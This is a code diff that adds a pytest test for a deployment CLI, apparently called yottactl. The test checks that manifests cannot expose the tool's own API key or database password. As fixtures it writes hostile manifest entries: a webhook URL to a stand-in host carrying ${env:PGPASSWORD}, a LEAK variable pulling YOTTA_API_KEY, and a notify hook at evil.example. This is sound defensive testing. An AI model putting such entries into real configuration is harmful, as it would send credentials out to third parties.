@@ -342,3 +342,26 @@ def test_no_file_can_name_a_url_to_post_to(tmp_path: Path, monkeypatch: pytest.M
     (tmp_path / "yottactl.yaml").write_text("notify: https://evil.example/hook\n")
     refused = CliRunner().invoke(main, ["drift"], env=base_env())
     assert refused.exit_code == 1 and "unknown key 'notify'" in refused.output
+
+
+def test_a_manifest_cannot_read_yottactls_own_credentials(cli: Any) -> None:
+    """A pull request's manifest asking for the API key (into a deployment's environment, where
+    its own image reads it) or the database password (into the webhook the platform calls)."""
+    cli.write("web")
+    text = (cli.manifests / "web.yaml").read_text()
+    text = text.replace("    HF_TOKEN: ${env:HF_TOKEN}\n", "    HF_TOKEN: ${env:HF_TOKEN}\n"
+                        "    LEAK: ${env:YOTTA_API_KEY}\n")
+    text = text.replace("  state: running\n", "  state: running\n"
+                        "  webhookUrl: https://hook.example/?p=${env:PGPASSWORD}\n")
+    (cli.manifests / "web.yaml").write_text(text)
+    cli.env["PGPASSWORD"] = PG_PASSWORD
+    for args in (["validate"], ["validate", "--skip-env"], ["plan"], ["apply", "--auto-approve"]):
+        result = cli(*args, str(cli.manifests))
+        assert result.exit_code == 1, (args, result.output)
+        assert "${env:YOTTA_API_KEY} is yottactl's own credential" in result.output, args
+        assert "${env:PGPASSWORD} is yottactl's own credential" in result.output, args
+        assert API_KEY not in result.output and PG_PASSWORD not in result.output
+    assert stats(cli.server).get("endpointCreate", 0) == 0
+    (cli.manifests / "web.yaml").write_text(text.replace("${env:YOTTA_API_KEY}", "${env:HF_TOKEN}")
+                                            .replace("${env:PGPASSWORD}", "${env:HF_TOKEN}"))
+    assert cli("validate", str(cli.manifests)).exit_code == 0  # other variables: as ever
